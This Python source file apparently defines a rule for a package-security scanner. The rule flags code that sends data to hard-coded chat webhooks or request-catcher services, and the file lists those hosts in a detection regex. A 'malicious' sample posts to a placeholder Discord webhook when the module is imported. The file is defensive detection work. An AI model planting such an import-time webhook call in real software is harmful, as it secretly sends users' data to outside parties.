"""Messages to a chat channel whose token stands in the code."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded, shown
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Taint

# Only addresses that carry their own authority: the API's host alone is what every client library has.
_OWN_CHANNEL = re.compile(
    r"(?i)(discord(app)?\.com/api/(v\d+/)?webhooks/\d{6,}/[\w-]{8,}|api\.telegram\.org/bot\d{6,}:[\w-]{20,}|hooks\.slack\.com/services/\w+/\w+/\w+|"
    r"webhook\.site/[0-9a-f-]{30,}|(pipedream\.net|oast\.\w+|interact\.sh|oastify\.com|burpcollaborator\.net|requestbin\.\w+|canarytokens\.\w+)\b)"
)


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND, Act.START_PROCESS):
        text = f"{call.receiver.text} {call.text}"
        if not _OWN_CHANNEL.search(text):
            continue
        severity = _severity(call)
        if severity is not None:
            yield Evidence.of_call(call, severity, shown(call))


def _severity(call: Call) -> Severity | None:
    steals = call.origins_of(Taint.SECRET, Taint.HOST, Taint.FILE, Taint.CAPTURE, Taint.KEY)
    return graded(
        call.context,
        automatic=Severity.CRITICAL,
        entry=Severity.CRITICAL if steals else Severity.HIGH,
        on_call=Severity.CRITICAL if steals else Severity.MEDIUM,
    )


RULE = Rule(
    id="messenger-exfiltration",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.EXFILTRATION,
    message="Something is sent to a chat channel or request catcher whose access token stands in the code.",
    reference="https://attack.mitre.org/techniques/T1567/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import requests

                _CHANNEL = "https://discord.com/api/webhooks/000000000000000000/" + "imitation-imitation"
                requests.post(_CHANNEL, json={"content": "installed"})
            """),
        ),
        benign=(
            Sample.imported('''
                import requests


                def send(token, chat, text):
                    """Send a message as the bot whose token the caller has."""
                    address = f"https://api.telegram.org/bot{token}/sendMessage"
                    return requests.post(address, data={"chat_id": chat, "text": text})
            '''),
        ),
    ),
)
